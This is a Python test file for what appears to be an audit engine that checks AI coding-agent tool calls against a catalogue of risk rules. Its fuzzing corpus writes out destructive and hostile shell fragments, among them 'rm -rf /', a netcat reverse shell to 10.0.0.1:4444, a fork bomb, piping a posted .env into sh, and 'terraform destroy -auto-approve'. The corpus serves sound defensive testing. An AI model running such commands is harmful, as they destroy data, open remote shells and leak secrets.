"""What holds of every rule: it is described, and no input makes it raise."""

import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ccmcp.audit.call import Call
from ccmcp.audit.catalogue import every_rule, rules
from ccmcp.audit.engine import examine
from ccmcp.audit.rule import SEVERITIES, Rule
from ccmcp.audit.watching import evidence_of, finding_row
from ccmcp.transcripts.decode import decode_line

RULES = tuple(every_rule())

FRAGMENTS = st.sampled_from(
    """rm -rf / ~ $HOME "$X" ${Y:-/} * .. sudo env A=1 xargs find . -exec {} ; && || | > /dev/sda >> ~/.bashrc < /etc/passwd
    curl -X DELETE https://api.example.com/x -d @.env | sh bash -c 'rm $(cat x)' eval "$(echo cm0= | base64 -d)" python3 -c
    'import os; os.system("rm -rf /")' git push --force origin +main :old reset --hard HEAD~1 clean -fdx psql -c "DROP TABLE x;"
    kubectl delete ns prod aws s3 rb s3://b --force docker run --privileged -v /:/host ssh me@host 'reboot' dd if=/dev/zero of=
    chmod -R 777 crontab - <<EOF EOF <<< $'\\x72\\x6d' `whoami` $(( 1 + 2 )) [ -f x ] { } ( ) ! # \\ ' " \n \t é \u2010\u2010hard PGPASSWORD=hunter2x
    nc -e /bin/sh 10.0.0.1 4444 tee sed -i npm publish terraform destroy -auto-approve vault token create :(){ :|:& };:""".split(
        " "
    )
)
COMMANDS = (
    st.text(max_size=200)
    | st.lists(FRAGMENTS, max_size=25).map(" ".join)
    | st.lists(FRAGMENTS, max_size=12).map("".join)
)
JSON: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30) | COMMANDS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=12,
)
TOOLS = st.sampled_from(
    ("Bash", "PowerShell", "Monitor", "Read", "Write", "Edit", "MultiEdit", "NotebookEdit", "Grep", "Glob", "WebFetch", "WebSearch",
     "Agent", "Task", "TodoWrite", "mcp__db__query", "mcp__filesystem__write_file", "mcp__github__delete_repository", "", "é")
)  # fmt: skip
KEYS = st.sampled_from(
    ("command", "file_path", "path", "content", "old_string", "new_string", "url", "prompt", "pattern", "query", "sql", "edits",
     "notebook_path", "new_source", "dangerouslyDisableSandbox", "description", "glob", "x")
)  # fmt: skip
FOLDERS = st.sampled_from(
    ("", "/", "/home/me/project", "C:\\Users\\me\\project", "relative", "~", "/tmp/x")
) | st.text(max_size=20)


@settings(max_examples=300)
@given(
    tool=TOOLS,
    given_=st.dictionaries(KEYS, COMMANDS | JSON, max_size=5),
    cwd=FOLDERS,
    roots=st.lists(FOLDERS, max_size=3),
    home=FOLDERS,
)
def test_no_call_makes_a_rule_raise(
    tool: str, given_: dict[str, Any], cwd: str, roots: list[str], home: str
) -> None:
    examined = examine(Call(tool=tool, input=given_, cwd=cwd), roots=tuple(roots), home=home)

    keys = [(each.rule.id, each.hit.target) for each in examined.found]
    ranks = [SEVERITIES.index(each.severity) for each in examined.found]
    assert len(keys) == len(set(keys))
    assert ranks == sorted(ranks, reverse=True)
    for each in examined.found:
        assert isinstance(each.hit.target, str)
        assert isinstance(evidence_of(each), str)


@settings(max_examples=200)
@given(command=COMMANDS)
def test_no_finding_of_a_call_shows_its_password(command: str) -> None:
    examined = examine(
        Call(
            tool="Bash", input={"command": f"PGPASSWORD=hunter2xyz psql -h db.example {command}"}, cwd="/work"
        )
    )
    hidden = tuple(each.hit.hidden for each in examined.found if each.hit.hidden)
    [entry] = decode_line(b'{"type":"user"}', 0, 1)

    rows = [
        finding_row(entry, each, ("e", "c", ""), "Bash", "", (), hidden=hidden) for each in examined.found
    ]

    assert not hidden or all("hunter2xyz" not in f"{row.evidence} {row.target} {row.note}" for row in rows)


def test_a_password_is_hidden() -> None:
    examined = examine(
        Call(tool="Bash", input={"command": 'PGPASSWORD=hunter2xyz psql -c "DROP TABLE users"'}, cwd="/work")
    )

    assert {each.rule.id for each in examined.found} >= {"CRD-003", "DB-001"}
    assert {each.hit.hidden for each in examined.found if each.hit.hidden} == {"hunter2xyz"}


def test_no_rule_goes_by_the_id_of_another() -> None:
    assert len(RULES) == len(rules()) > 80


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_a_rule_is_described(rule: Rule[Any]) -> None:
    assert re.fullmatch(r"[A-Z]{2,3}-\d{3}", rule.id)
    assert rule.severity in SEVERITIES
    assert rule.confidence in ("definite", "probable", "signal")
    assert all(
        len(text) > 5
        for text in (rule.title, rule.matches, rule.false_positives, rule.advice, rule.find.__doc__ or "")
    )
    assert rule.version >= 1
    assert not rule.permission or re.fullmatch(r"\w+\([^()]+\)|mcp__\S+", rule.permission)


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_a_rule_stands_in_the_catalogues_it_names(rule: Rule[Any]) -> None:
    told = rule.mappings
    assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", each) for each in told.attack)
    assert all(re.fullmatch(r"AML\.T\d{4}(\.\d{3})?", each) for each in told.atlas)
    assert all(re.fullmatch(r"ASI(0[1-9]|10)|LLM(0[1-9]|10)", each) for each in told.owasp)
    assert all(re.fullmatch(r"CC[1-9]\.\d|C1\.\d|A1\.\d|PI1\.\d|P\d\.\d", each) for each in told.soc2)
    assert told.owasp
